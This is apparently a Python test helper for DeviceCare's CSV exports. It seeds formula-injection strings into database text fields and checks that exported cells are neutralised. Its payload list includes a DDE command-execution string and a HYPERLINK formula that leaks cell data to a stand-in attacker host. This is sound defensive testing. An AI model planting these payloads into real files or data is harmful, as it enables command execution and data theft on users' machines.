"""Hostile strings for the CSV files DeviceCare writes, and the check every cell must pass.

The check is written here on its own, not imported from the product's writer, so a mistake in
the writer can't hide itself.
"""

from __future__ import annotations

import csv
import io
import re
from itertools import cycle

from sqlalchemy import select, update

from storage import models as m
from storage.uow import UnitOfWorkFactory

# OWASP: cells a spreadsheet may run as a formula start with one of these.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
HOSTILE = (
    "=1+1",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"open")',
    "\t=1+1",
    "\r=1+1",
)


def rows_of(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text, newline="")))


def unsafe_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula: formula-looking and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def neutralised_seen(files: list[list[list[str]]]) -> set[str]:
    """Which of HOSTILE appear in the files, quoted so they stay text."""
    cells = {cell for rows in files for row in rows for cell in row}
    return {h for h in HOSTILE if any(c.startswith("'" + h) for c in cells)}


async def seed_hostile_text(stores: UnitOfWorkFactory) -> None:
    """Put hostile strings into every free-text column the reports show: names of students,
    families, buildings, staff, policies and device models; grades and SIS ids; reasons."""
    targets = [
        (m.Student, "last_name"),
        (m.Student, "sis_id"),
        (m.Student, "grade"),
        (m.Household, "name"),
        (m.Building, "name"),
        (m.Staff, "name"),
        (m.InsurancePolicy, "name"),
        (m.Device, "model"),
        (m.InvoiceAdjustment, "reason"),
    ]
    values = cycle(HOSTILE)
    async with stores() as store:
        s = store.session
        for model, column in targets:
            width = getattr(model.__table__.c[column].type, "length", None) or 1_000
            ids = (await s.execute(select(model.id).order_by(model.id))).scalars().all()
            for ident in ids:
                # A unique column gets a unique value: the hostile start, then the row's id,
                # cut to fit the column (PostgreSQL refuses longer values).
                suffix = f" {ident}"
                value = next(values)[: width - len(suffix)] + suffix
                await s.execute(update(model).where(model.id == ident).values({column: value}))
        await store.commit()
